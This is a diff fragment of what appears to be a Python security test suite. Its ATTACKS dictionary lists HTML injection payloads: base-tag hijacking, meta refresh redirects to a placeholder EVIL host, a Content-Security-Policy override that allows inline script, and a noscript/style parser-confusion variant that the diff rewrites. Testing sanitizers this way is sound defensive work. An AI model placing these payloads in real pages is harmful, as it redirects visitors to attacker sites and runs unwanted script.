@@ -76,8 +76,8 @@ ATTACKS = {
     "entity": '<object data="_static/entity.svg" type="image/svg+xml"></object>',
     "base": f'<base href="{EVIL}/"><img src="x.png"><script src="x.js"></script>',
     "refresh": f'<meta http-equiv="Refresh" content="0; url={EVIL}/">',
-    "refresh-read-differently": f'<noscript><p title="</noscript>'
-    f'<meta http-equiv=refresh content=0;{EVIL}/>"></p></noscript>',
+    "refresh-read-differently": "<noscript><style></noscript>"
+    f'<meta http-equiv=refresh content="0;{EVIL}/"></style></noscript>',
     "policy": f'<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\' *">\n\n'
     f"<script>{RUN}</script>",
     "title": "",
